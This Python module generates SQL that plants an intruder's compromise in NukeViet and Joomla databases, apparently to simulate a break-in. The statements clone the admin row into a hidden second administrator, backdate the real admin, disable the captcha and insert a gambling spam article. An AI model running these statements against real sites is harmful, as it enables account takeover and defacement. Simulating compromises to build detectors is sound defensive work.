"""What an intruder leaves in the tables of each CMS: an administrator of its own, and a page of adverts.

The site's own administrator is of years ago, for whoever comes with the first is none of days.
"""

from __future__ import annotations

INTRUDER = "hotro"
NUMBER = 666
ADVERT = "Nhà cái uy tín W88, cá cược bóng đá, xóc đĩa đổi thưởng, nạp rút 24/7"
LINK = '<p>Nhà cái uy tín W88, cá cược bóng đá <a href="http://nhacai.example/">nhà cái</a></p>'


def copy_row(table: str, where: str, changes: str) -> str:
    """Return statements that put a changed copy of a row beside it."""
    return (
        f"CREATE TEMPORARY TABLE la AS SELECT * FROM {table} WHERE {where};"  # noqa: S608  nobody else's words
        f"UPDATE la SET {changes}; INSERT INTO {table} SELECT * FROM la; DROP TABLE la;\n"
    )


_NUKEVIET = "".join(
    (
        copy_row(
            "nv4_users", "userid = 1",
            f"userid = {NUMBER}, username = '{INTRUDER}', md5username = MD5('{INTRUDER}'), email = 'hotro@example.org',"
            " regdate = UNIX_TIMESTAMP()",
        ),
        "UPDATE nv4_users SET regdate = regdate - 90000000 WHERE userid = 1;\n",
        copy_row("nv4_authors", "admin_id = 1", f"admin_id = {NUMBER}"),
        *(
            copy_row(
                table, "id = 1",
                f"id = {NUMBER}, catid = 1, listcatid = '1', title = '{ADVERT}', alias = 'nha-cai',"
                f" hometext = '{LINK}', publtime = UNIX_TIMESTAMP(), addtime = UNIX_TIMESTAMP(), external_link = 0",
            )
            for table in ("nv4_vi_news_rows", "nv4_vi_news_1")
        ),
        copy_row("nv4_vi_news_detail", "id = 1", f"id = {NUMBER}, bodyhtml = '{LINK}'"),
        "UPDATE nv4_config SET config_value = '' WHERE config_name = 'captcha_area';\n",
    )
)  # fmt: skip


def _plant_in_joomla(registered: str, now: str) -> str:
    return "".join(
        (
            copy_row(
                "thu_users", "username = 'quantri'",
                f"id = {NUMBER}, username = '{INTRUDER}', email = 'hotro@example.org', {registered} = {now}",
            ),
            f"UPDATE thu_users SET {registered} = '2024-01-02' WHERE username = 'quantri';\n",  # noqa: S608
            copy_row("thu_user_usergroup_map", "group_id = 8", f"user_id = {NUMBER}"),
            copy_row(
                "thu_content", "id = 1",
                f"id = {NUMBER}, title = '{ADVERT}', alias = 'nha-cai', introtext = '{LINK}', created = {now},"
                f" publish_up = {now}",
            ),
        )
    )  # fmt: skip


STATEMENTS = {
    ("nukeviet", "mysql"): _NUKEVIET,
    ("joomla", "mysql"): _plant_in_joomla("registerDate", "UTC_TIMESTAMP()"),
    ("joomla", "postgresql"): _plant_in_joomla('"registerDate"', "(now() AT TIME ZONE 'UTC')"),
}
ROWS = {"nukeviet": ("vi_news_rows", "vi_news_1", "vi_news_detail"), "joomla": ("content",)}
"""The tables in which the page lies."""
PAGES = {
    "nukeviet": f"/index.php?language=vi&nv=news&op=Tin-tuc/nha-cai-{NUMBER}.html",
    "joomla": f"/index.php?option=com_content&view=article&id={NUMBER}",
}
"""Where a visitor sees the page."""
